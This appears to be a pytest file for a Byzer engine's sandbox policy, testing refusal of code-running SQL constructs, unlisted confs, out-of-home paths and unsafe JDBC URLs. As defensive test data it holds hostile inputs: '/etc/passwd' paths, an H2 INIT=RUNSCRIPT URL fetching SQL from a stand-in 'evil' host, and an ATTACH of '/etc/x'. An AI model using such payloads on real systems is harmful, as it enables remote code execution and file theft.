"""The policy's rules, without Spark: constructs, SQL facts, confs, path options, JDBC file URLs."""

from __future__ import annotations

from pathlib import Path

import pytest

from byzer_engine.lang.errors import ByzerAuthError
from byzer_engine.lang.sqlcheck import nesting_beyond
from byzer_engine.policy import (
    SCRIPT_UDF,
    SHELL,
    SQL_CODE,
    SQL_PROCESS,
    SQL_REFLECTION,
    Policy,
    SqlFacts,
    SqlPath,
    conf_allowed,
)
from byzer_engine.runtime.config import EngineConfig
from byzer_engine.runtime.paths import PathResolver
from byzer_engine.runtime.sql_guard import rewrite_paths

SERVER = Policy(allow_shell=False, allow_code=False, allow_any_path=False)
CLI = Policy.from_config(EngineConfig())


def test_the_cli_defaults_allow_code_and_any_path_but_no_shell() -> None:
    assert CLI.allows(SCRIPT_UDF) and CLI.allows(SQL_CODE) and CLI.allow_any_path
    assert not CLI.allows(SHELL) and not CLI.allows(SQL_PROCESS) and not CLI.allows(SQL_REFLECTION)


@pytest.mark.parametrize(
    ("facts", "named"),
    [
        (SqlFacts(nodes=frozenset({"Project", "ScriptTransformation"})), "TRANSFORM"),
        (SqlFacts(functions=frozenset({"reflect"})), "reflect"),
        (SqlFacts(functions=frozenset({"java_method"})), "java_method"),
        (SqlFacts(functions=frozenset({"try_reflect"})), "try_reflect"),
        (SqlFacts(nodes=frozenset({"AddJarsCommand"})), "ADD JAR"),
        (SqlFacts(nodes=frozenset({"CreateFunctionCommand"})), "CREATE FUNCTION"),
        (SqlFacts(nodes=frozenset({"UnresolvedExecuteImmediate"})), "EXECUTE IMMEDIATE"),
        (SqlFacts(confs=("spark.sql.warehouse.dir",)), "spark.sql.warehouse.dir"),
    ],
)
def test_the_server_refuses_code_and_confs_in_sql(tmp_path: Path, facts: SqlFacts, named: str) -> None:
    resolver = PathResolver(str(tmp_path), allow_any_path=False)
    with pytest.raises(ByzerAuthError, match=named):
        SERVER.check_sql(facts, resolver.resolve)


def test_switches_allow_what_they_govern(tmp_path: Path) -> None:
    resolve = PathResolver(str(tmp_path), allow_any_path=True).resolve
    everything = Policy(allow_shell=True, allow_code=True, allow_any_path=True)
    facts = SqlFacts(
        nodes=frozenset({"ScriptTransformation", "AddJarsCommand", "UnresolvedExecuteImmediate"}),
        functions=frozenset({"reflect"}),
        confs=("spark.sql.warehouse.dir",),
    )
    assert everything.check_sql(facts, resolve) == {}
    with pytest.raises(ByzerAuthError, match="reflect"):
        CLI.check_sql(SqlFacts(functions=frozenset({"reflect"})), resolve)
    assert CLI.check_sql(SqlFacts(nodes=frozenset({"AddJarsCommand"})), resolve) == {}


def test_sql_paths_resolve_in_the_home_or_are_refused(tmp_path: Path) -> None:
    resolve = PathResolver(str(tmp_path), allow_any_path=False).resolve
    facts = SqlFacts(paths=(SqlPath("LOCATION", "t/x"), SqlPath("LOCATION", f"{tmp_path}/abs")))
    assert SERVER.check_sql(facts, resolve) == {"t/x": f"{tmp_path}/t/x"}
    for path in ("/etc/passwd", "../other", "hdfs://nn/x"):
        with pytest.raises(ByzerAuthError, match=r"LOCATION: path .* outside your home"):
            SERVER.check_sql(SqlFacts(paths=(SqlPath("LOCATION", path),)), resolve)


def test_the_conf_allow_list() -> None:
    assert conf_allowed("spark.sql.shuffle.partitions") and conf_allowed("spark.sql.adaptive.enabled")
    for key in (
        "spark.sql.legacy.x",
        "spark.sql.warehouse.dir",
        "spark.hadoop.a",
        "spark.sql.catalog.c",
        "fs.x",
    ):
        assert not conf_allowed(key)
        with pytest.raises(ByzerAuthError, match="allow-list"):
            SERVER.check_conf(key)
        CLI.check_conf(key)


def test_path_options(tmp_path: Path) -> None:
    resolve = PathResolver(str(tmp_path), allow_any_path=False).resolve
    options = SERVER.path_options({"path": "a", "Paths": "b, c", "header": "/etc/x"}, resolve)
    assert options == {"path": f"{tmp_path}/a", "Paths": f"{tmp_path}/b,{tmp_path}/c", "header": "/etc/x"}
    assert SERVER.path_options({"paths": '["d"]'}, resolve) == {"paths": f'["{tmp_path}/d"]'}
    for key in ("path", "paths", "sourcePath", "basePath", "localModelDir"):
        with pytest.raises(ByzerAuthError, match=f"option {key}"):
            SERVER.path_options({key: "/etc/passwd"}, resolve)


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("jdbc:sqlite:db.sqlite", "jdbc:sqlite:{home}/db.sqlite"),
        ("jdbc:sqlite::memory:", "jdbc:sqlite::memory:"),
        ("jdbc:h2:mem:x", "jdbc:h2:mem:x"),
        ("jdbc:h2:./h2db;MODE=MySQL", "jdbc:h2:{home}/h2db;MODE=MySQL"),
        ("jdbc:derby:memory:x", "jdbc:derby:memory:x"),
        ("jdbc:hsqldb:file:hs", "jdbc:hsqldb:file:{home}/hs"),
        ("jdbc:postgresql://host/db", "jdbc:postgresql://host/db"),
    ],
)
def test_jdbc_file_urls_live_in_the_home(tmp_path: Path, url: str, expected: str) -> None:
    resolve = PathResolver(str(tmp_path), allow_any_path=False).resolve
    assert SERVER.jdbc_url(url, resolve) == expected.format(home=tmp_path)


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:sqlite:/etc/x.db",
        "jdbc:sqlite:file:/etc/x.db",
        "jdbc:h2:/tmp/x",
        "jdbc:h2:file:~/x",
        "jdbc:derby:/tmp/d",
        "jdbc:hsqldb:file:/tmp/h",
        "jdbc:duckdb:/tmp/x.duckdb",
    ],
)
def test_jdbc_file_urls_outside_the_home_are_refused(tmp_path: Path, url: str) -> None:
    with pytest.raises(ByzerAuthError, match="JDBC URL"):
        SERVER.jdbc_url(url, PathResolver(str(tmp_path), allow_any_path=False).resolve)


def test_h2_init_scripts_need_allow_code(tmp_path: Path) -> None:
    resolve = PathResolver(str(tmp_path), allow_any_path=True).resolve
    with pytest.raises(ByzerAuthError, match="INIT"):
        SERVER.jdbc_url("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", resolve)
    assert CLI.jdbc_url("jdbc:h2:mem:x;INIT=select 1", resolve).startswith("jdbc:h2:mem:x")


def test_nesting_depth_is_measured_outside_literals_and_comments() -> None:
    assert nesting_beyond("select " + "(" * 5 + "1" + ")" * 5, 5) is None
    assert nesting_beyond("select " + "(" * 6 + "1" + ")" * 6, 5) == 12
    assert nesting_beyond("select '((((((((' , `((((((`, /* (((((( */ 1 -- ((((((\n", 2) is None
    assert nesting_beyond("(" * 100, 64) == 64
    assert Policy.from_config(EngineConfig(sql_max_depth=10)).sql_max_depth == 10


def test_rewrites_touch_only_paths() -> None:
    sql = "select 'data' as c, `data` from parquet.`data` join t location 'data' path = 'data'"
    rewritten, missing = rewrite_paths(sql, {"data": "/h/data"})
    assert rewritten == (
        "select 'data' as c, `data` from parquet.`/h/data` join t location '/h/data' path = '/h/data'"
    )
    assert missing == []
    assert rewrite_paths("add file x", {"x": "/h/x"}) == ("add file x", ["x"])


def test_embedded_databases_that_run_code_need_allow_code(tmp_path: Path) -> None:
    resolve = PathResolver(str(tmp_path), allow_any_path=False).resolve
    for url in ("jdbc:h2:mem:x", "jdbc:derby:memory:d", "jdbc:hsqldb:mem:h", "jdbc:duckdb:"):
        with pytest.raises(ByzerAuthError, match="embedded"):
            SERVER.jdbc_options({"url": url}, resolve)
    with pytest.raises(ByzerAuthError, match="sessionInitStatement"):
        SERVER.jdbc_options(
            {"url": "jdbc:sqlite:a.db", "sessionInitStatement": "ATTACH '/etc/x' AS x"}, resolve
        )
    assert SERVER.jdbc_options({"url": "jdbc:sqlite:a.db"}, resolve)["url"] == f"jdbc:sqlite:{tmp_path}/a.db"
    assert SERVER.jdbc_options({"url": "jdbc:h2:tcp://db/x"}, resolve)["url"] == "jdbc:h2:tcp://db/x"
    assert CLI.jdbc_options({"url": "jdbc:h2:mem:x", "sessionInitStatement": "select 1"}, resolve)
